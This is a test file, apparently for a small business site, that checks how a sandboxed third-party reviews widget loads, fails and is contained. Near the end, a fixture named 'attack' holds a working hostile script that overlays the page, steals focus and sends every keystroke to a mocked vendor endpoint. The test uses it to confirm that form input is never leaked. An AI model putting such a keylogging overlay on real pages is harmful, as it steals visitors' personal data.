import { readFileSync } from 'node:fs';
import type { Page, Route } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ReviewsWidget } from '../../data/collections/reviews-widget.ts';
import { loadSite } from '../../scripts/data/load.ts';
import { build, copyRepository, editData, remove } from '../site/copy.ts';
import { testBrowser } from './browser.ts';
import { fill, formOf, hydrate, submit, testProduct } from './product.ts';

const vendor = {
  script: 'https://static.vendor.example/widget.js',
  scriptAttributes: { 'data-key': 'k1' },
  container: { class: 'vendor-reviews', 'data-options': '{"stars":5}' },
  init: 'Vendor.draw',
  hosts: {
    styles: ['https://styles.vendor.example'],
    fonts: ['https://fonts.vendor.example'],
    images: ['https://pictures.vendor.example'],
    connections: ['https://api.vendor.example'],
    frames: ['https://frames.vendor.example'],
  },
} satisfies ReviewsWidget;
const allowedHosts = ['static', 'styles', 'fonts', 'pictures', 'api', 'frames'].map(
  (kind) => `${kind}.vendor.example`,
);

let root = '';
beforeAll(async () => {
  root = copyRepository();
  editData(root, 'business', (business) => Object.assign(business, { reviewsWidget: vendor }));
  expect(await build(root)).toMatchObject({ code: 0 });
});
afterAll(() => remove(root));
const { origin, rows } = testProduct(() => root);
const open = testBrowser(origin, true);
const copy = loadSite().pages.reviews.widget;

type RequestLog = string[];

const font = readFileSync(
  'node_modules/@fontsource-variable/archivo/files/archivo-latin-standard-normal.woff2',
);
const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"/>';
const styles = `@font-face { font-family: Vendor; src: url(https://fonts.vendor.example/a.woff2) }
.vendor-reviews { font: 20px Vendor; } .vendor-reviews p { height: 150px; margin: 0 }`;

/** Responds for all of the vendor's hosts. */
async function serveVendor(page: Page, script: string, requests: RequestLog = []) {
  const responses: Record<string, Parameters<Route['fulfill']>[0]> = {
    static: { contentType: 'text/javascript', body: script },
    styles: { contentType: 'text/css', body: styles },
    fonts: { contentType: 'font/woff2', body: font },
    pictures: { contentType: 'image/svg+xml', body: picture },
    api: { json: ['They came.', 'It opened.'] },
    frames: { contentType: 'text/html', body: '<p>4.9 of 5</p>' },
  };
  await page.route(/\.vendor\.example\//, async (route) => {
    const request = route.request();
    requests.push(`${request.url()} ${request.postData() ?? ''}`);
    const [kind = ''] = new URL(request.url()).host.split('.');
    await route.fulfill({ ...responses[kind], headers: { 'access-control-allow-origin': '*' } });
  });
}

const reviewsFrame = (page: Page) => page.locator('[data-island=reviews] iframe');

async function scrollToReviews(page: Page) {
  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
  await reviewsFrame(page).waitFor();
}

const loading = { allowedHosts, reducedMotion: 'reduce' } as const;

const validScript = `
  const script = document.currentScript;
  const sheet = document.createElement('link');
  sheet.rel = 'stylesheet'; sheet.href = 'https://styles.vendor.example/a.css';
  document.head.append(sheet);
  const box = document.querySelector('.vendor-reviews');
  const { stars } = JSON.parse(box.dataset.options);
  window.Vendor = { draw() { box.dataset.drawn = 'again'; } };
  document.addEventListener('reviews:reinit', () => { box.dataset.reinit = performance.now(); });
  (async () => {
    const answer = await fetch('https://api.vendor.example/reviews?key=' + script.dataset.key);
    const reviews = await answer.json();
    await new Promise((done) => { sheet.sheet ? done() : sheet.onload = done; });
    for (const text of reviews) {
      const review = document.createElement('p');
      review.innerHTML = '<img alt="" src="https://pictures.vendor.example/a.svg" style="border-radius: 50%">';
      review.append(stars + ' stars: ' + text);
      box.append(review);
    }
    const badge = document.createElement('iframe');
    badge.src = 'https://frames.vendor.example/badge';
    badge.height = 100;
    box.append(badge);
  })();`;

test('a widget with styles, fonts, pictures, a frame and an API on other hosts is shown in full', async () => {
  const requests: RequestLog = [];
  const page = await open('/', { ...loading, before: (page) => serveVendor(page, validScript, requests) });
  expect(requests, 'nothing loads before the widget is near').toEqual([]);
  await scrollToReviews(page);
  await page.getByText(copy.loaded).waitFor();
  expect(await page.getByText(copy.loading).isVisible()).toBe(false);
  const frame = reviewsFrame(page).contentFrame();
  await frame.getByText('5 stars: It opened.').waitFor();
  await expect
    .poll(() => frame.locator('body').evaluate(() => document.fonts.check('20px Vendor')))
    .toBe(true);
  expect(new Set(requests.map((line) => new URL(line.split(' ')[0] ?? '').host))).toEqual(
    new Set(allowedHosts),
  );
  expect(requests.join()).toContain('key=k1');
  const waited = await frame.locator('[data-drawn=again][data-reinit]').evaluate((box: HTMLElement) => {
    const [load] = performance.getEntriesByType('navigation') as PerformanceNavigationTiming[];
    return Number(box.dataset.reinit) - (load?.loadEventEnd ?? 0);
  });
  expect(waited, 'milliseconds until the widget is drawn again').toBeGreaterThan(490);
  await page.setViewportSize({ width: 360, height: 900 });
  await expect.poll(async () => (await reviewsFrame(page).boundingBox())?.height).toBeGreaterThan(400);
  // A visitor may click into it from a field.
  await formOf(page, 'emergency').getByLabel('Name').focus();
  const review = frame.getByText('It opened.');
  await reviewsFrame(page).scrollIntoViewIfNeeded();
  const at = (await review.boundingBox()) ?? { x: 0, y: 0 };
  await page.mouse.click(at.x + 5, at.y + 5);
  await review.click();
  const hasFocus = () => reviewsFrame(page).evaluate((frame) => frame === document.activeElement);
  await expect.poll(hasFocus).toBe(true);
});

test('an error after loading is only logged, and a script that fails to load shows both notices with the review links', async () => {
  const failingInit = `${validScript} window.Vendor.draw = () => { throw new Error('broken'); };`;
  const page = await open('/reviews', {
    ...loading,
    expectErrors: /ERR_FAILED/,
    before: (page) => serveVendor(page, failingInit),
  });
  const logged = page.waitForEvent('console', (message) =>
    message.text().includes('Could not re-initialize'),
  );
  await scrollToReviews(page);
  expect((await logged).type()).toBe('warning');
  expect(await page.getByText(copy.loaded).isVisible()).toBe(true);

  await page.route(vendor.script, (route) => route.abort());
  await page.reload();
  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
  await page.getByText('Reviews Widget Error').waitFor();
  await page.getByText('There was an issue loading our reviews widget').waitFor();
  expect(await page.getByRole('alert').getByRole('link').count()).toBe(6);
  expect(await reviewsFrame(page).count()).toBe(0);
});

test('a script that shows nothing is never reported as loaded and fails after 15 seconds', async () => {
  const requests: RequestLog = [];
  const page = await open('/reviews', {
    ...loading,
    before: async (page) => {
      await page.clock.install();
      await serveVendor(page, `fetch('https://api.vendor.example/runs')`, requests);
    },
  });
  await page.clock.pauseAt(Date.now() + 60_000);
  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
  // On a busy machine, the page's script still waits for an idle moment.
  await expect.poll(() => page.clock.runFor(100).then(() => reviewsFrame(page).isVisible())).toBe(true);
  await expect.poll(() => requests.join()).toContain('/runs');
  await page.clock.runFor(14_000);
  expect(await page.getByText(copy.loading).isVisible()).toBe(true);
  expect(await page.getByText(copy.loaded).isVisible()).toBe(false);
  await page.clock.runFor(1000);
  await page.getByText('Reviews Widget Error').waitFor();
});

/** Covers the whole page, steals the focus and reports each key. */
const attack = `
  const send = window.fetch.bind(window);
  const report = (text) => send('https://api.vendor.example/report', { method: 'POST', mode: 'no-cors', body: String(text) }).catch(() => {});
  report('it runs');
  const cover = document.createElement('div');
  cover.style = 'position:fixed; inset:-5000px; z-index:2147483647; background:red; height:100000px; width:100000px';
  document.body.append(cover);
  document.documentElement.style = 'height:100000px; width:100000px';
  const field = document.createElement('textarea');
  field.autofocus = true;
  document.body.append(field);
  addEventListener('keydown', ({ key }) => report(key), true);
  field.addEventListener('input', () => report(field.value));
  setInterval(() => { window.focus(); field.focus(); }, 10);`;

test('a review widget that covers the whole page and steals the focus cannot block or read a request', async () => {
  const requests: RequestLog = [];
  const page = await open('/', {
    ...loading,
    expectErrors: /.*/,
    before: (page) => serveVendor(page, attack, requests),
  });
  // Wait for its request, not its frame, which the page may already have removed.
  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
  await expect.poll(() => requests.join()).toContain('it runs');
  const form = formOf(page, 'emergency');
  for (let turn = 0; turn < 12; turn += 1) await page.mouse.wheel(0, -200);
  await hydrate(form);
  const lead = { Name: 'Zyxwvut', Phone: '202-555-0177' };
  for (const [label, value] of Object.entries(lead)) {
    await form.getByLabel(label).click();
    // The frame holds the focus for milliseconds until it's removed. A person can't type that soon, but a test can.
    await reviewsFrame(page).waitFor({ state: 'detached' });
    await page.keyboard.type(value);
    expect(await form.getByLabel(label).inputValue()).toBe(value);
  }
  await fill(form, { Service: 'Other Emergency' });
  await submit(form);
  expect(await rows()).toMatchObject([{ name: lead.Name, phone: '+12025550177' }]);
  const reported = requests.flatMap((line) => line.split('/report ')[1] ?? []);
  expect(reported.filter((text) => text !== 'it runs' && /[Zyxwvut\d-]/.test(text))).toEqual([]);
});
